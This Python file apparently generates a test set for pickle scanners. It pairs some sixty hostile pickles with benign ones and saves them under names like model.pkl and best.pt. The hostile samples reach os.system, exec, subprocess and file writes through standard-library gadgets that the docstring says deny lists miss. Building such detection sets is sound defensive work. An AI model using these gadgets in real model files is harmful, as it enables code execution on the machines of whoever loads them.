"""Pickles that reach a command through parts of the standard library that deny lists forget."""
from assembly import build, call, dot, get, glob, model, new, pickle, put, seq
from pair import CODE, SHELL, Set

# What ordinary libraries write, to stand where the hostile call stood.
PLAIN = [
    call(glob("datetime", "date"), b"\x07\xe8\x01\x02"),
    call(glob("collections", "OrderedDict"), [("lr", 0.1), ("momentum", 0.9)]),
    call(glob("decimal", "Decimal"), "1.25"),
    call(glob("fractions", "Fraction"), "3/4"),
    new(glob("collections", "Counter"), ),
    call(glob("builtins", "complex"), 1.0, 2.0),
    call(glob("builtins", "slice"), 0, 5, 1),
    call(glob("builtins", "frozenset"), ["a", "b"]),
    call(glob("datetime", "timedelta"), 1, 2, 3),
    call(glob("collections", "deque"), [], 5),
    call(glob("builtins", "bytearray"), b"abc"),
    call(glob("numpy", "dtype"), "f4", False, True),
    call(glob("re", "_compile"), "a+b", 32),
    call(glob("builtins", "range"), 0, 3, 1),
]

SYSTEM = glob("os", "system")
EXEC = glob("builtins", "exec")


# What a callback argument is given.
PARTIAL = call(glob("functools", "partial"), SYSTEM, SHELL)


def samples():
    yield "idle-calltip-entity", call(glob("idlelib.calltip", "get_entity"), CODE)
    browser = build(new(glob("webbrowser", "BackgroundBrowser")), {"name": "touch", "args": ["marker"], "basename": "touch"})
    yield "webbrowser-background", call(dot("webbrowser", "BackgroundBrowser", "open"), browser, "x")
    yield "imap-stream", call(glob("imaplib", "IMAP4_stream"), SHELL)
    pipes = build(new(glob("pipes", "Template")), {"steps": [(SHELL, "--")], "debugging": 0})
    yield "pipes-template", call(dot("pipes", "Template", "copy"), pipes, "/dev/null", "/dev/null")
    yield "uuid-command", call(glob("uuid", "_get_command_stdout"), "touch", "marker")
    yield "osx-read-output", call(glob("_osx_support", "_read_output"), SHELL)
    child = build(new(glob("_bootsubprocess", "Popen")), {"_cmd": ["/usr/bin/touch", "marker"], "_env": None, "returncode": None})
    yield "bootsubprocess-wait", call(dot("_bootsubprocess", "Popen", "wait"), child)
    yield "timeit-main", call(glob("timeit", "main"), ["-n", "1", "-r", "1", CODE])
    yield "forward-ref", call(
        dot("typing", "ForwardRef", "_evaluate"), call(glob("typing", "ForwardRef"), CODE), {}, {}, call(glob("builtins", "frozenset"))
    )
    yield "bdb-runeval", call(dot("bdb", "Bdb", "runeval"), call(glob("bdb", "Bdb")), CODE, {}, {})
    yield "trace-runctx", call(dot("trace", "Trace", "runctx"), call(glob("trace", "Trace"), 0, 0), CODE, {}, {})
    yield "profile-runcall", call(dot("cProfile", "Profile", "runcall"), call(glob("cProfile", "Profile")), SYSTEM, SHELL)
    yield "context-run", call(dot("contextvars", "Context", "run"), call(glob("contextvars", "copy_context")), SYSTEM, SHELL)
    yield "call-tracing", call(glob("sys", "call_tracing"), SYSTEM, (SHELL,))
    yield "partial-exec", call(call(glob("functools", "partial"), EXEC), CODE)
    yield "reduce-exec", call(glob("functools", "reduce"), EXEC, [CODE, {}])
    yield "copy-reconstruct", call(glob("copy", "_reconstruct"), None, None, SYSTEM, (SHELL,))
    yield "weakref-finalize", call(
        dot("weakref", "finalize", "__call__"), call(glob("weakref", "finalize"), call(glob("argparse", "Namespace")), SYSTEM, SHELL)
    )
    yield "atexit", call(glob("atexit", "register"), SYSTEM, SHELL)
    yield "thread-pool-initializer", call(glob("multiprocessing.pool", "ThreadPool"), 1, SYSTEM, (SHELL,))
    yield "timer-run", call(dot("threading", "Timer", "run"), call(glob("threading", "Timer"), 0, SYSTEM, (SHELL,)))
    yield "exit-stack", seq(
        put(9, call(glob("contextlib", "ExitStack"))),
        call(dot("contextlib", "ExitStack", "callback"), get(9), SYSTEM, SHELL),
        call(dot("contextlib", "ExitStack", "close"), get(9)),
    )
    yield "sched", seq(
        put(9, call(glob("sched", "scheduler"))),
        call(dot("sched", "scheduler", "enter"), get(9), 0, 1, SYSTEM, (SHELL,)),
        call(dot("sched", "scheduler", "run"), get(9)),
    )
    yield "asyncio-executor", seq(
        put(9, call(glob("asyncio", "new_event_loop"))),
        call(dot("asyncio", "BaseEventLoop", "run_in_executor"), get(9), None, SYSTEM, SHELL),
    )
    item = call(glob("concurrent.futures.thread", "_WorkItem"), call(glob("concurrent.futures", "Future")), SYSTEM, (SHELL,), {})
    yield "futures-work-item", call(dot("concurrent.futures.thread", "_WorkItem", "run"), item)
    yield "function-test-case", call(dot("unittest", "FunctionTestCase", "debug"), call(glob("unittest", "FunctionTestCase"), PARTIAL))
    doc = call(dot("doctest", "DocTestParser", "get_doctest"), call(glob("doctest", "DocTestParser")), f">>> _ = {CODE}\n", {}, "n", "f", 0)
    yield "doctest-runner", call(dot("doctest", "DocTestRunner", "run"), call(glob("doctest", "DocTestRunner")), doc)
    config = {"version": 1, "formatters": {"a": {"()": "os.system", "command": SHELL}}}
    yield "dictconfig-factory", call(glob("logging.config", "dictConfig"), config)
    yield "base-configurator", call(
        dot("logging.config", "BaseConfigurator", "configure_custom"),
        call(glob("logging.config", "BaseConfigurator"), {}),
        {"()": "subprocess.getoutput", "cmd": SHELL},
    )
    yield "operator-call", call(glob("operator", "call"), SYSTEM, SHELL)
    yield "defaultdict-factory", call(glob("operator", "getitem"), call(glob("collections", "defaultdict"), PARTIAL), "missing")
    yield "iter-sentinel", call(glob("builtins", "next"), call(glob("builtins", "iter"), PARTIAL, 7))
    yield "groupby-key", call(glob("builtins", "list"), call(glob("itertools", "groupby"), [SHELL], SYSTEM))
    yield "accumulate-deque", call(glob("collections", "deque"), call(glob("itertools", "accumulate"), [CODE, {}], EXEC))
    yield "methodcaller-foreign-os", call(call(glob("operator", "methodcaller"), "system", SHELL), glob("shutil", "os"))
    yield "dotted-os", call(dot("glob", "os", "popen"), SHELL)
    yield "spawnv-passfds", call(glob("multiprocessing.util", "spawnv_passfds"), b"/usr/bin/touch", ["touch", "marker"], ())
    yield "posix-spawn", call(glob("posix", "posix_spawn"), "/usr/bin/touch", ["touch", "marker"], {})
    yield "distutils-spawn", call(glob("distutils.spawn", "spawn"), ["touch", "marker"])
    yield "distutils-write-file", call(glob("distutils.file_util", "write_file"), "marker", ["ssh-rsa AAAA"])
    yield "path-write-text", call(dot("pathlib", "Path", "write_text"), call(glob("pathlib", "PosixPath"), "marker"), "x")
    yield "copyfile", call(glob("shutil", "copyfile"), "/etc/hostname", "marker")
    yield "tarfile-open-write", call(glob("tarfile", "open"), "marker", "w")
    yield "zipfile-write", call(glob("zipfile", "ZipFile"), "marker", "w")
    yield "log-file-handler", call(glob("logging", "FileHandler"), "marker")
    yield "proxy-type-source", call(glob("multiprocessing.managers", "MakeProxyType"), "X", (f"m(): pass\n{CODE}\ndef z",))
    yield "dataclass-default", call(glob("dataclasses", "_create_fn"), "f", ("a=" + CODE,), ["pass"])
    yield "modules-get", call(call(glob("builtins", "getattr"), call(dot("sys", "modules", "get"), "os"), "system"), SHELL)
    yield "map-write", call(glob("builtins", "tuple"), call(glob("builtins", "map"), SYSTEM, (SHELL,)))
    yield "cgi-popen", call(dot("subprocess", "Popen", "__init__"), new(glob("subprocess", "Popen")), ["touch", "marker"])
    yield "process-run", call(
        dot("multiprocessing", "Process", "run"), call(glob("multiprocessing", "Process"), None, SYSTEM, None, (SHELL,))
    )
    yield "ctypes-libc", call(call(glob("builtins", "getattr"), call(glob("ctypes", "CDLL"), None), "system"), b"touch marker")
    yield "codecs-open", call(glob("codecs", "open"), "marker", "w")
    yield "unpack-archive", call(glob("shutil", "make_archive"), "marker", "tar", "/etc/apt")
    yield "code-interpreter", call(
        dot("code", "InteractiveInterpreter", "runsource"), call(glob("code", "InteractiveInterpreter")), CODE
    )


def add(out: Set):
    for n, (name, hostile) in enumerate(samples()):
        out.add("pickle-stdlib", name, pickle(model(hostile)), pickle(model(PLAIN[n % len(PLAIN)])), "pickle", file=FILES[n % len(FILES)])


FILES = ["model.pkl", "weights.bin", "estimator.pickle", "state.dat", "clf.sav", "checkpoint.ckpt", "model.p", "best.pt"]
